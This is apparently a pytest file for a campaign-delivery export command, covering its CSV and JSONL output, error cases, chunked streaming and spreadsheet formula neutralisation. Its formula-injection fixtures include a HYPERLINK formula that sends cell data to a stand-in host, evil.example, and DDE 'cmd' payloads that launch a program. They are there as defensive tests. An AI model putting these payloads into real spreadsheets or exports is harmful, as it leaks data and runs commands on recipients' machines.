"""`outreach deliveries export`: a campaign's ledger rows with their content and status history, as CSV or
JSON Lines, read back the way a regulator's or BI tool's loader would, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from outreach.core.csv_cells import spreadsheet_safe
from outreach.reports.export import COLUMNS, FIELDS, export_rows, write_csv
from outreach.store.schema import events
from tests.pipeline import Pipeline
from tests.smtp_server import SmtpServer

OUTREACH = str(Path(sys.executable).with_name("outreach"))

CUSTOMERS = """
    id,name,phone,country,email,locale,consent_sms,consent_email,status
    e1,王芳,+8613800138001,CN,wang@example.cn,zh-CN,yes,yes,active
    e2,"Bob ""B"", Jr",,US,bob@example.com,en,,yes,active
    e3,Amy,+14155550301,US,,en,yes,,active
    e4,Zed,+14155550302,US,,en,,,active
"""

CAMPAIGN = """
    id: statement
    name: Statement ready
    purpose: marketing
    segment: "status == 'active'"
    steps:
      - id: notify
        channel: sms
        fallback: email
        content:
          sms: "{{ name }}您好,您的账单已出。"
          email:
            subject: "{{ name }}, your statement"
            text: "Dear {{ name }},\\n\\nyour \\"statement\\" is ready; see it online."
"""


def cli(p: Pipeline, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The real command; bytes, so that the CSV is read exactly as written (CRLF line ends, UTF-8)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OUTREACH_", "TWILIO_"))}
    env.update(
        OUTREACH_CONFIG=str(p.folder / "none.toml"),
        OUTREACH_DATABASE_URL=p.settings.database_url,
        OUTREACH_SECRET_KEY="cli-test-key",
        LC_ALL="C",  # the export is UTF-8 whatever the locale says
    )
    return subprocess.run([OUTREACH, *args], cwd=p.folder, env=env, capture_output=True, timeout=120)


def ran(p: Pipeline, twilio_server: Any) -> Pipeline:
    p.import_csv(CUSTOMERS)
    twilio_server.reject("+14155550301", 21211)
    path = p.campaign(CAMPAIGN)
    p.run(path, occurrence="first")
    p.run(path, occurrence="second")
    return p


def kinds(history: list[str]) -> list[str]:
    found = []
    for entry in history:
        kind, _, at = entry.partition("@")
        assert at.endswith("Z") and datetime.fromisoformat(at.replace("Z", "+00:00"))
        found.append(kind)
    return found


def event_counts(p: Pipeline) -> dict[int, int]:
    with p.engine.connect() as conn:
        query = sa.select(events.c.delivery_id, sa.func.count()).group_by(events.c.delivery_id)
        return {delivery_id: n for delivery_id, n in conn.execute(query) if delivery_id is not None}


def test_csv_on_stdout_has_every_row_with_content_and_history(
    pipeline: Pipeline, twilio_server: Any, smtp_server: SmtpServer
) -> None:
    p = ran(pipeline, twilio_server)
    result = cli(p, "deliveries", "export", "--campaign", "statement")
    assert result.returncode == 0, result.stderr
    assert b"exported 8 rows of statement as csv to stdout" in result.stderr
    assert result.stdout.startswith(b"id,campaign_id,") and b"\r\n" in result.stdout
    reader = csv.DictReader(io.StringIO(result.stdout.decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames or ()) == FIELDS
    exported = list(reader)
    ledger = p.rows(campaign_id="statement")
    assert [int(r["id"]) for r in exported] == [r["id"] for r in ledger]
    counts = event_counts(p)
    for row, truth in zip(exported, ledger, strict=True):
        for column in ("customer_id", "occurrence", "channel", "status", "address", "provider_message_id"):
            assert row[column] == (truth[column] or ""), column
        assert (row["subject"], row["body"]) == (truth["subject"] or "", truth["body"] or "")
        assert len(row["history"].split("; ")) == counts[truth["id"]]

    first = {r["customer_id"]: r for r in exported if r["occurrence"] == "first"}
    assert first["e1"]["body"].startswith("王芳您好") and first["e1"]["status"] == "sent"
    assert kinds(first["e1"]["history"].split("; ")) == ["delivery.planned", "delivery.sending", "delivery.sent"]
    bob = first["e2"]
    assert (bob["channel"], bob["subject"]) == ("email", 'Bob "B", Jr, your statement')
    assert bob["body"].startswith('Dear Bob "B", Jr,\n\nyour "statement" is ready; see it online.')
    assert smtp_server.handler.to("bob@example.com")
    assert (first["e3"]["status"], first["e3"]["error_code"]) == ("failed", "21211")
    # the failure, then what it meant for the profile (Twilio 21211: the number cannot receive)
    assert kinds(first["e3"]["history"].split("; "))[-2:] == ["delivery.failed", "address.invalid"]
    assert (first["e4"]["status"], first["e4"]["reason"]) == ("suppressed", "no_consent")
    assert kinds(first["e4"]["history"].split("; ")) == ["delivery.suppressed"]


def test_jsonl_to_a_file_for_one_occurrence(pipeline: Pipeline, twilio_server: Any) -> None:
    p = ran(pipeline, twilio_server)
    target = p.folder / "export.jsonl"
    result = cli(
        p, "deliveries", "export", "--campaign", "statement", "--occurrence", "second", "--format", "jsonl",
        "--output", str(target),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout == b""
    assert f"exported 4 rows of statement as jsonl to {target}".encode() in result.stderr
    assert not list(p.folder.glob("*.partial"))
    lines = target.read_text(encoding="utf-8").splitlines()
    exported = [json.loads(line) for line in lines]
    ledger = p.rows(campaign_id="statement", occurrence="second")
    assert [r["id"] for r in exported] == [r["id"] for r in ledger]
    assert all(set(r) == set(FIELDS) for r in exported)
    by_customer = {r["customer_id"]: r for r in exported}
    # The second occurrence knows e3's number is invalid (21211 the first time) and falls back to nothing.
    assert by_customer["e3"]["status"] == "suppressed"
    assert by_customer["e1"]["provider_message_id"].startswith("SM")
    assert kinds(by_customer["e1"]["history"]) == ["delivery.planned", "delivery.sending", "delivery.sent"]
    assert by_customer["e2"]["subject"] == 'Bob "B", Jr, your statement'
    assert datetime.fromisoformat(by_customer["e1"]["sent_at"]).tzinfo is not None


def test_nothing_to_export_is_bad_input_and_writes_nothing(pipeline: Pipeline, twilio_server: Any) -> None:
    p = ran(pipeline, twilio_server)
    target = str(p.folder / "out.csv")
    for args, message in [
        (["--campaign", "nope", "--output", target], "--campaign: campaign 'nope' has no ledger rows"),
        (["--campaign", "statement", "--occurrence", "third"], "--occurrence: campaign 'statement' has no ledger"),
        (["--campaign", "statement", "--format", "xml", "--output", target], "--format: 'xml' is not a format"),
        (["--campaign", "statement", "--output", str(p.folder / "no" / "x.csv")], "--output: "),
    ]:
        result = cli(p, "deliveries", "export", *args)
        assert (result.returncode, result.stdout) == (2, b""), args
        assert result.stderr.decode().startswith(message), result.stderr
    assert not (p.folder / "out.csv").exists() and not list(p.folder.rglob("*.partial"))


def test_rows_stream_in_chunks_with_their_own_histories(pipeline: Pipeline, twilio_server: Any) -> None:
    p = ran(pipeline, twilio_server)
    whole = list(export_rows(p.engine, "statement"))
    chunked = list(export_rows(p.engine, "statement", chunk=3))
    assert len(whole) == 8 and chunked == whole
    counts = event_counts(p)
    assert all(len(row["history"]) == counts[row["id"]] for row in chunked)


FORMULA_NAMES = """
    id,name,phone,country,consent_sms,status
    f1,"=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",+8613800138011,CN,yes,active
    f2,+cmd|' /C calc'!A0,+8613800138012,CN,yes,active
    f3,-2+3+cmd|' /C calc'!A0,+8613800138013,CN,yes,active
    f4,@SUM(1+1)*cmd|' /C calc'!A0,+8613800138014,CN,yes,active
    f5,王芳,+8613800138015,CN,yes,active
"""

NAME_ONLY = """
    id: names
    name: The name alone
    purpose: service
    segment: "status == 'active'"
    steps:
      - id: notify
        channel: sms
        content:
          sms: "{{ name }}"
"""


def test_cells_a_spreadsheet_would_run_are_neutralised_and_raw_keeps_them(
    pipeline: Pipeline, twilio_server: Any
) -> None:
    p = pipeline
    p.import_csv(FORMULA_NAMES)
    p.run(p.campaign(NAME_ONLY))
    names = {r["customer_id"]: r["body"] for r in p.rows(campaign_id="names")}
    assert names["f1"].startswith("=HYPERLINK(")  # the ledger keeps what was sent

    def exported(*extra: str) -> dict[str, dict[str, str]]:
        result = cli(p, "deliveries", "export", "--campaign", "names", *extra)
        assert result.returncode == 0, result.stderr
        return {r["customer_id"]: r for r in csv.DictReader(io.StringIO(result.stdout.decode(), newline=""))}

    safe = exported()
    for customer in ("f1", "f2", "f3", "f4"):
        assert safe[customer]["body"] == "'" + names[customer], customer
    assert safe["f5"]["body"] == "王芳"
    assert safe["f1"]["address"] == "+8613800138011"  # a number is no formula: phone numbers stay as they are
    raw = exported("--raw")
    assert {c: r["body"] for c, r in raw.items()} == names


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised_in_any_text_column(trigger: str) -> None:
    value = f'{trigger}HYPERLINK("http://evil.example","x")'
    row: dict[str, Any] = {name: None for name in COLUMNS}
    row.update(id=1, subject=value, body="ok " + value, error_message=value, history=[value])
    out = io.StringIO(newline="")
    write_csv(iter([row]), out)
    [read] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert read["subject"] == read["error_message"] == read["history"] == "'" + value
    assert read["body"] == "ok " + value  # only a cell's first character makes a formula
    assert read["id"] == "1"
    raw = io.StringIO(newline="")
    write_csv(iter([row]), raw, raw=True)
    assert next(csv.DictReader(io.StringIO(raw.getvalue(), newline="")))["subject"] == value


@pytest.mark.parametrize("number", ["-12.5", "+8613800138001", "-3e5", "+.5"])
def test_numbers_are_no_formulas_and_stay_as_they_are(number: str) -> None:
    assert spreadsheet_safe(number) == number
    assert spreadsheet_safe(number + "+1") == "'" + number + "+1"
